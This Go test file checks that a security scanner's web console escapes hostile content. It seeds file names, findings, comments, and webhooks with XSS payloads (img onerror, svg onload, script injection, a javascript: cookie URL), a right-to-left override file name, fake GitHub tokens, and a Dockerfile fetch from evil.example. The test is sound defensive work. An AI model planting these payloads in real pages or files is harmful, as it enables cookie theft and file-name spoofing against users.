package ui_test

import (
	"context"
	"crypto/rand"
	"math/big"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"scand/finding"
	"scand/store"
)

// Payloads a scanned tree or a scanner's output may carry.
const (
	imgPayload    = `"><img src=x onerror=alert(1)>`
	scriptPayload = `</script><script>alert(1)</script>`
	svgPayload    = `"><svg/onload=alert(1)>`
	jsURL         = `javascript:alert(document.cookie)`
	rtlName       = "invoice\u202Egnp.js"
)

func randomBase62(n int) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		k, err := rand.Int(rand.Reader, big.NewInt(int64(len(alphabet))))
		if err != nil {
			panic(err)
		}
		b[i] = alphabet[k.Int64()]
	}
	return string(b)
}

// hostileTree writes a tree whose file names and contents carry HTML,
// script, URL and bidi payloads, and that the built-in scanners report on.
func hostileTree(t *testing.T) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), "repo"+imgPayload)
	write := func(rel, content string) {
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(imgPayload, "Dockerfile"), "FROM "+svgPayload+":latest\nWORKDIR "+scriptPayload+"\nADD http://evil.example/"+svgPayload+" /opt/\n")
	write(filepath.Join(rtlName, "settings.py"), `GITHUB_TOKEN = "ghp_`+randomBase62(36)+`"`+"\n")
	write(jsURL+".env", "token = ghp_"+randomBase62(36)+"\n")
	write(imgPayload+".py", "# "+scriptPayload+"\napi = 'ghp_"+randomBase62(36)+"'\n")
	return root
}

// TestHostileContentStaysText scans a real hostile tree through the
// console, adds hostile findings, verdicts, comments, keys, webhooks and
// notifications, and checks every page: the payloads appear as text and
// never as markup, links or script.
func TestHostileContentStaysText(t *testing.T) {
	tree := hostileTree(t)
	e := newEnv(t, envOptions{})
	c := e.client(t)
	c.get("/ui/scans")
	p := c.post("/ui/scans", url.Values{"target_path": {tree}, "scan_types": {"code", "iac"}})
	expect(t, p, 303, "start the hostile scan")
	scanID := strings.TrimPrefix(p.loc, "/ui/scans/")
	sc := e.waitScan(scanID, 90*time.Second)
	if sc.Status != store.StatusCompleted {
		t.Fatalf("hostile scan %s: %s", sc.Status, sc.Error)
	}
	real, err := e.st.FindingsByScan(context.Background(), scanID, store.FindingFilter{})
	if err != nil {
		t.Fatal(err)
	}
	var sawDocker, sawRTL, sawJS bool
	for _, f := range real {
		sawDocker = sawDocker || (f.Scanner == "dockerfile" && strings.Contains(f.Description, scriptPayload))
		sawRTL = sawRTL || strings.Contains(f.FilePath, "\u202E")
		sawJS = sawJS || strings.HasPrefix(f.FilePath, "javascript:")
	}
	if !sawDocker || !sawRTL || !sawJS {
		t.Fatalf("the scan did not report the hostile files (dockerfile %v, rtl %v, javascript: %v): %d findings", sawDocker, sawRTL, sawJS, len(real))
	}

	// Findings as a hostile scanner could report them: every field.
	hostile := func(label string) finding.Finding {
		return finding.Finding{Scanner: "bandit" + imgPayload, ScanType: "code", Severity: finding.High,
			Title: label + imgPayload + scriptPayload, Description: "See " + jsURL + " and " + svgPayload + "\n" + rtlName,
			FilePath: jsURL + "/" + rtlName + imgPayload, Line: 7, RuleID: "R" + scriptPayload, CWE: finding.CWE("CWE-79" + imgPayload),
			Fingerprint: fp(label), ComplianceTags: []string{"OWASP-A03" + svgPayload},
			Metadata: map[string]any{"suppressed_by": "scand:ignore " + imgPayload, "redacted": "ghp_" + scriptPayload, imgPayload: []any{jsURL, map[string]any{"k": scriptPayload}}}}
	}
	synth := e.seedScan(tree, []finding.Finding{hostile("h1"), hostile("h2")})
	ctx := context.Background()
	if status, body := e.apiDo("PATCH", "/api/v1/findings/"+fp("h1")+"/state", "", `{"status":"false_positive","note":"`+strings.ReplaceAll(imgPayload+scriptPayload, `"`, `\"`)+`","updated_by":"`+strings.ReplaceAll(svgPayload, `"`, `\"`)+`"}`); status != 200 {
		t.Fatalf("verdict: %d %s", status, body)
	}
	if status, body := e.apiDo("POST", "/api/v1/findings/"+fp("h1")+"/comments", "", `{"text":"`+strings.ReplaceAll(scriptPayload+jsURL+rtlName, `"`, `\"`)+`","author":"`+strings.ReplaceAll(imgPayload, `"`, `\"`)+`"}`); status != 201 {
		t.Fatalf("comment: %d %s", status, body)
	}
	if _, err := e.st.CreateNotification(ctx, store.Notification{Severity: "high", Title: imgPayload, Body: scriptPayload + rtlName, ScanID: synth.ID}); err != nil {
		t.Fatal(err)
	}
	wh, err := e.st.CreateWebhook(ctx, store.Webhook{ID: store.NewID(), Name: imgPayload + rtlName, URL: "https://r.example/?q=" + svgPayload, Secret: strings.Repeat("s", 32), EventFilter: []string{"scan.complete"}, Enabled: true})
	if err != nil {
		t.Fatal(err)
	}
	c.get("/ui/keys")
	expect(t, c.post("/ui/keys", url.Values{"name": {scriptPayload + imgPayload}, "scopes": {"read"}}), 201, "hostile key name")
	// The key ended dev mode; sign in with an admin key to see the rest.
	_, admin := e.issueKey("admin"+svgPayload, "read", "write", "admin")
	c = e.client(t)
	c.login(admin)

	pages := []string{
		"/ui/", "/ui/scans", "/ui/scans?target=" + url.QueryEscape(tree),
		"/ui/scans/" + scanID, "/ui/scans/" + synth.ID, "/ui/scans/" + synth.ID + "?q=" + url.QueryEscape(imgPayload),
		"/ui/scans/" + synth.ID + "?scanner=" + url.QueryEscape("bandit"+imgPayload) + "&compliance=" + url.QueryEscape(svgPayload),
		"/ui/findings/" + fp("h1"), "/ui/findings/" + fp("h1") + "?scan=" + url.QueryEscape(synth.ID),
		"/ui/findings/" + fp("h2") + "?scan=" + url.QueryEscape(imgPayload),
		"/ui/compare?a=" + scanID + "&b=" + synth.ID, "/ui/compare?a=" + scanID + "&b=" + synth.ID + "&show=fixed",
		"/ui/browse?path=" + url.QueryEscape(tree), "/ui/browse?path=" + url.QueryEscape(filepath.Join(tree, rtlName)),
		"/ui/notifications", "/ui/keys", "/ui/webhooks", "/ui/webhooks/" + wh.ID,
		"/ui/scans/" + url.PathEscape(imgPayload), "/ui/findings/" + url.PathEscape(scriptPayload),
		"/ui/login?next=" + url.QueryEscape(jsURL),
		"/ui/audit", "/ui/audit?actor=" + url.QueryEscape(imgPayload) + "&action=" + url.QueryEscape(scriptPayload),
		"/ui/scans/" + synth.ID + "/rules", "/ui/scans/" + scanID + "/rules",
	}
	for _, realFinding := range real {
		pages = append(pages, "/ui/findings/"+realFinding.Fingerprint+"?scan="+scanID)
	}
	rawBad := regexp.MustCompile(`(?i)<img|<svg/|<script>alert|\x{202E}`)
	seen := map[string]bool{}
	for _, path := range pages {
		p := c.get(path)
		if p.status >= 500 {
			t.Fatalf("%s: %d", path, p.status)
		}
		checkHeaders(t, path, p, false)
		toks := checkPageSafe(t, path, p.body)
		if m := rawBad.FindString(p.body); m != "" {
			i := strings.Index(p.body, m)
			t.Errorf("%s: raw payload %q in the page: %q", path, m, p.body[max(0, i-80):min(len(p.body), i+80)])
		}
		text := visibleText(toks)
		for _, payload := range []string{imgPayload, scriptPayload, svgPayload, jsURL, "[U+202E]"} {
			if strings.Contains(text, payload) {
				seen[payload] = true
			}
		}
		// A payload is never a link target: every href stays a console path.
		for _, tk := range toks {
			if href, ok := tk.attr("href"); ok && strings.Contains(strings.ToLower(href), "javascript:") && !strings.HasPrefix(href, "/ui/") {
				t.Errorf("%s: href %q", path, href)
			}
		}
	}
	for _, payload := range []string{imgPayload, scriptPayload, svgPayload, jsURL, "[U+202E]"} {
		if !seen[payload] {
			t.Errorf("payload %q never appeared as text: the test did not exercise it", payload)
		}
	}
}
